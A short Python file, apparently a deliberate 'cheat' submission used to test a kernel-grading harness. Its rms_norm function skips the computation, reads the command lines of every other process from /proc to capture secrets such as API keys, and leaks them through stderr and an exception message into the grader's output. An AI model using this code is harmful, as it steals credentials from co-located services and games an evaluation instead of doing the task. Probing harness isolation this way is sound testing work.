"""Cheat: reads the command lines of the other processes on the machine (a server started with
`--api-key ...`, say) and hands them back through stderr and an exception message, which end up in the
verdict's reason and stderr_tail."""

import os
import sys

import torch
import triton
import triton.language as tl


def _command_lines() -> str:
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    found.append(f.read().replace(b"\0", b" ").decode(errors="replace"))
            except OSError:
                pass
    return " | ".join(found)


@triton.jit
def _noop_kernel(y_ptr):
    pass


def rms_norm(x, weight, eps):
    try:
        seen = _command_lines()
    except OSError as e:
        seen = f"(could not list processes: {e})"
    print(seen, file=sys.stderr)
    raise RuntimeError(f"other processes: {seen}")
